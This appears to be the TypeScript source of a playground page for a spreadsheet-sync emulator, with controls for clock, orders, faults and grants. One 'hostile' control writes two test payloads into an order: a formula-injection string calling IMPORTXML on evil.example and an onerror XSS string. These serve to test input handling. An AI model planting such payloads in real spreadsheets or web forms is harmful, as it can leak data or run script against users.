/** The playground page: the workbook view and the emulator's controls. Every value is shown as text. */
import { renderCharts, type ChartViewData } from './charts';

interface SheetPreview {
  name: string;
  rows: unknown[][];
  totalRows: number;
}
interface TriggerView {
  uid: string;
  handlerFunction: string;
  type: string;
  everyHours?: number;
  atHour?: number;
}
interface WorkbookView {
  sheets: SheetPreview[];
  triggers: TriggerView[];
  charts?: Record<string, ChartViewData[]>;
}
type Reply = { ok: true; value?: unknown } | { ok: false; error: { name: string; message: string } };

const SYNC_LOG = 'Sync log';
/** The tab the user chose (Orders until then); shown as soon as it exists, e.g. after the first sync. */
let chosen = 'Orders';
let selected = chosen;
let lastView: WorkbookView | null = null;

function byId<T extends HTMLElement>(id: string): T {
  return document.getElementById(id) as T;
}

function cellText(value: unknown): string {
  if (value === null || value === undefined) return '';
  return typeof value === 'object' ? JSON.stringify(value) : String(value);
}

function renderTable(table: HTMLTableElement, rows: unknown[][], numbered: boolean): void {
  const [header = [], ...body] = rows;
  const head = document.createElement('thead');
  const headRow = document.createElement('tr');
  if (numbered) headRow.append(document.createElement('th'));
  for (const value of header) {
    const th = document.createElement('th');
    th.textContent = cellText(value);
    headRow.append(th);
  }
  head.append(headRow);
  const tbody = document.createElement('tbody');
  body.forEach((row, index) => {
    const tr = document.createElement('tr');
    if (numbered) {
      const num = document.createElement('td');
      num.className = 'rownum';
      num.textContent = String(index + 2);
      tr.append(num);
    }
    for (const value of row) {
      const td = document.createElement('td');
      td.textContent = cellText(value);
      td.title = td.textContent;
      tr.append(td);
    }
    tbody.append(tr);
  });
  table.replaceChildren(head, tbody);
}

function render(view: WorkbookView): void {
  lastView = view;
  const tabs = byId<HTMLDivElement>('tabs');
  selected = view.sheets.some((s) => s.name === chosen) ? chosen : (view.sheets[0]?.name ?? chosen);
  tabs.replaceChildren(
    ...view.sheets.map((sheet) => {
      const tab = document.createElement('button');
      tab.type = 'button';
      tab.setAttribute('role', 'tab');
      tab.setAttribute('aria-selected', String(sheet.name === selected));
      tab.textContent = `${sheet.name} (${Math.max(0, sheet.totalRows - 1)})`;
      tab.addEventListener('click', () => {
        chosen = sheet.name;
        if (lastView) render(lastView);
      });
      return tab;
    }),
  );
  const sheet = view.sheets.find((s) => s.name === selected);
  renderTable(byId('sheet'), sheet ? sheet.rows : [], true);
  renderCharts(byId('charts'), (sheet && view.charts?.[sheet.name]) || []);
  byId('sheet-info').textContent = sheet
    ? `${sheet.name}: ${Math.max(0, sheet.totalRows - 1)} data rows${sheet.totalRows - 1 > sheet.rows.length - 1 ? ` (first ${sheet.rows.length - 1} shown)` : ''}`
    : 'No sheets yet: connect and sync from the sidebar.';
  const log = view.sheets.find((s) => s.name === SYNC_LOG);
  const logRows = log ? [log.rows[0] ?? [], ...log.rows.slice(1).slice(-50).reverse()] : [];
  renderTable(byId('sync-log'), logRows, false);
  byId('triggers').textContent = view.triggers.length
    ? `Triggers: ${view.triggers.map((t) => `${t.handlerFunction} (${t.everyHours ? `every ${t.everyHours} h` : t.atHour !== undefined ? `daily at ${t.atHour}:00` : t.type})`).join(', ')}`
    : 'Triggers: none';
  const firstOrder = view.sheets.find((s) => s.name === 'Orders')?.rows[1]?.[0];
  const orderId = byId<HTMLInputElement>('order-id');
  if (!orderId.value && typeof firstOrder === 'string') orderId.value = firstOrder;
}

async function refreshWorkbook(): Promise<void> {
  try {
    const response = await fetch('/playground/workbook');
    render((await response.json()) as WorkbookView);
  } catch (error) {
    byId('sheet-info').textContent = `Could not read the workbook: ${String(error)}`;
  }
}

async function post(path: string, body: unknown): Promise<Reply> {
  const response = await fetch(path, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
  return (await response.json()) as Reply;
}

function numberOf(id: string): number {
  return Number(byId<HTMLInputElement>(id).value);
}

function controlRequest(kind: string): { path: string; body?: unknown } {
  const orderId = encodeURIComponent(byId<HTMLInputElement>('order-id').value.trim());
  switch (kind) {
    case 'clock':
      return { path: '/_emulator/clock', body: { advance_seconds: numberOf('advance-seconds') } };
    case 'orders':
      return { path: '/_emulator/orders', body: { count: numberOf('order-count') } };
    case 'change':
      return { path: `/_emulator/orders/${orderId}/change`, body: { kind: byId<HTMLSelectElement>('change-kind').value } };
    case 'hostile':
      return {
        path: `/_emulator/orders/${orderId}/patch`,
        body: { attribution: { utm_campaign: '=IMPORTXML("http://evil.example/","//a")', utm_source: '<img src=x onerror=alert(1)>' } },
      };
    case 'vanish':
      return { path: `/_emulator/orders/${orderId}/vanish` };
    case 'revoke':
      return { path: '/_emulator/grants/revoke' };
    case 'switch-store':
      return { path: '/_emulator/grants/switch-store' };
    case 'disable-client':
      return { path: '/_emulator/client/disable', body: { disabled: true } };
    case 'enable-client':
      return { path: '/_emulator/client/disable', body: { disabled: false } };
    case 'clear-faults':
      return { path: '/_emulator/faults/clear' };
    default:
      return { path: '/_emulator/faults', body: { status: Number(byId<HTMLSelectElement>('fault-status').value), count: numberOf('fault-count'), path_prefix: '/api/v1/' } };
  }
}

async function withResult(label: string, action: () => Promise<Reply>): Promise<void> {
  const result = byId('control-result');
  const buttons = document.querySelectorAll<HTMLButtonElement>('#controls button');
  buttons.forEach((b) => (b.disabled = true));
  result.textContent = `${label}…`;
  try {
    const reply = await action();
    result.textContent = reply.ok ? `${label}: done. ${reply.value !== undefined ? JSON.stringify(reply.value).slice(0, 300) : ''}` : `${label} failed: ${reply.error.message}`;
  } catch (error) {
    result.textContent = `${label} failed: ${String(error)}`;
  } finally {
    buttons.forEach((b) => (b.disabled = false));
    await refreshWorkbook();
  }
}

document.querySelectorAll<HTMLButtonElement>('[data-control]').forEach((button) => {
  button.addEventListener('click', () => {
    const request = controlRequest(button.dataset.control ?? '');
    void withResult(button.textContent ?? 'Control', () => post('/playground/control', request));
  });
});
byId('fire-trigger').addEventListener('click', () => void withResult('Scheduled trigger', () => post('/playground/trigger', {})));
byId('reload-sidebar').addEventListener('click', () => {
  byId<HTMLIFrameElement>('sidebar').contentWindow?.location.reload();
});
window.addEventListener('message', (event) => {
  const data = event.data as { type?: string } | null;
  if (data && data.type === 'playground:ran') void refreshWorkbook();
});
void refreshWorkbook();
